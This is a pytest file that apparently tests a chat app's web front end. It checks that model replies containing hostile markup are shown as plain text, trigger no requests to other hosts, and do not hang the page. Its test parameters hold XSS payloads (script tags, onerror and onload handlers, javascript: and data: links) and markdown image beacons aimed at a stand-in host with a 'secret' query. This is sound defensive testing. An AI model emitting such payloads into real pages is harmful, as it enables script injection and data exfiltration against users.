"""K: what a model may say to a browser, 8 cases. Nothing runs, nothing leaves, nothing hangs."""

from __future__ import annotations

import asyncio
import contextlib
import threading
from collections.abc import Coroutine, Iterator
from typing import Any, TypeVar
from urllib.parse import urlsplit

import pytest
import uvloop
from playwright.sync_api import Browser, expect, sync_playwright

from tests.attacks.harness import Target, target
from tests.attacks.target import ECHO, FLOOD
from tests.web.conftest import ARGS, WATCH, find_chromium
from tests.web.test_page import ready, say, settled

pytestmark = pytest.mark.slow

_Result = TypeVar("_Result")
_PATIENCE_S = 60.0


class Outside:
    """The harness on a loop in a thread of its own; the browser's driver has its own."""

    def __init__(self) -> None:
        self._loop = uvloop.new_event_loop()
        self._thread = threading.Thread(target=self._loop.run_forever)
        self._thread.start()

    def run(self, work: Coroutine[Any, Any, _Result]) -> _Result:
        """Have it done over there."""
        return asyncio.run_coroutine_threadsafe(work, self._loop).result(_PATIENCE_S)

    @contextlib.contextmanager
    def inside(self, context: contextlib.AbstractAsyncContextManager[_Result]) -> Iterator[_Result]:
        """Enter and leave an asynchronous context over there."""

        async def enter() -> _Result:
            return await context.__aenter__()

        async def leave() -> None:
            await context.__aexit__(None, None, None)

        result = self.run(enter())
        try:
            yield result
        finally:
            self.run(leave())

    def close(self) -> None:
        """End the thread."""
        self._loop.call_soon_threadsafe(self._loop.stop)
        self._thread.join()
        self._loop.close()


@pytest.fixture(scope="module")
def outside() -> Iterator[Outside]:
    """One thread for the section."""
    one = Outside()
    yield one
    one.close()


@pytest.fixture(scope="module")
def there(outside: Outside, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
    """The server of this section."""
    with outside.inside(target(tmp_path_factory.mktemp("target"))) as running:
        yield running


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    """One browser for the section."""
    path = find_chromium()
    if path is None:
        pytest.skip("no Chromium: install one, or name it in CHROMIUM")
    expect.set_options(timeout=30_000)
    with sync_playwright() as playwright:
        running = playwright.chromium.launch(executable_path=path, args=ARGS)
        yield running
        running.close()


class Visitor:
    """A page, watched."""

    def __init__(self, chromium: Browser, home: str) -> None:
        context = chromium.new_context(locale="en-US", viewport={"width": 1280, "height": 800})
        context.add_init_script(WATCH)
        self.page = page = context.new_page()
        self._home = home
        self._problems: list[str] = []
        note = self._problems.append
        page.set_default_timeout(30_000)
        page.on("pageerror", lambda error: note(str(error)))
        page.on("dialog", lambda dialog: note(f"dialog: {dialog.message}"))
        page.on("popup", lambda popup: note(f"popup: {popup.url}"))
        page.on("request", lambda request: self._look(request.url))
        page.on("websocket", lambda socket: self._look(socket.url))
        page.goto(home)
        ready(page)

    def _look(self, address: str) -> None:
        place = urlsplit(address)
        if place.scheme != "data" and place.netloc != urlsplit(self._home).netloc:
            self._problems.append(f"foreign request: {address}")

    def check(self) -> None:
        """Nothing was run, asked for elsewhere, or complained of."""
        assert self.page.evaluate("window.pwned") is None
        assert self.page.evaluate("window.violations") == []
        assert self.page.url.startswith(self._home)
        assert self._problems == []


@pytest.fixture(scope="module")
def visitor(outside: Outside, chromium: Browser, there: Target) -> Visitor:
    """One visitor for the section, who belongs to what is usual from then on."""
    one = Visitor(chromium, there.url)
    say(one.page, f"{ECHO}hello")
    settled(one.page.get_by_test_id("reply").last)
    outside.run(there.rebase())
    return one


@pytest.mark.parametrize(
    "words",
    [
        pytest.param("<script>window.pwned=1</script>", id="K01-script"),
        pytest.param('<img src=x onerror="window.pwned=1">', id="K02-img-onerror"),
        pytest.param(
            "[click](javascript:window.pwned=1) <a href='javascript:window.pwned=1'>me</a>",
            id="K03-javascript-link",
        ),
        pytest.param("[a](data:text/html,<script>window.pwned=1</script>)", id="K04-data-link"),
        pytest.param("![](http://beacon.example/?q=secret)", id="K05-markdown-beacon"),
        pytest.param(
            '<svg onload="window.pwned=1"><use href="http://beacon.example/#a"/></svg>',
            id="K06-SVG",
        ),
        pytest.param("```js\nwindow.pwned=1\n<script>window.pwned=1", id="K07-unclosed-fence"),
    ],
)
def test_hostile_words_stay_words(
    outside: Outside, there: Target, visitor: Visitor, words: str
) -> None:
    """They are shown, and mean nothing to the browser; whatever is made clickable leads nowhere."""
    page = visitor.page
    with outside.inside(there.attacked()):
        reply = settled(say(page, ECHO + words))
        shown = reply.get_by_test_id("reply-text")
        assert "pwned" in shown.inner_text() or "beacon" in shown.inner_text()
        for name in ("script", "img", "svg", "iframe", "object", "embed", "style", "form"):
            assert shown.locator(name).count() == 0
        for link in shown.locator("a").all():
            assert urlsplit(link.get_attribute("href") or "").scheme in ("http", "https")
        visitor.check()


def test_k08_a_line_of_a_megabyte_does_not_hang_the_page(
    outside: Outside, there: Target, visitor: Visitor
) -> None:
    """K08: it is shown to its end, and the page still takes and answers the next message."""
    outside.run(there.ask("script", obeys_max_tokens=False))
    page = visitor.page
    with outside.inside(there.attacked()):
        outside.run(there.ask("script", chars_per_step=16 * 1024))
        flooded = say(page, FLOOD)
        expect(flooded).not_to_have_attribute("data-status", "streaming")
        outside.run(there.ask("script", chars_per_step=1))
        reply = settled(say(page, f"{ECHO}still here"))
        expect(reply.get_by_test_id("reply-text")).to_have_text("still here")
        visitor.check()
    outside.run(there.ask("script", obeys_max_tokens=True))
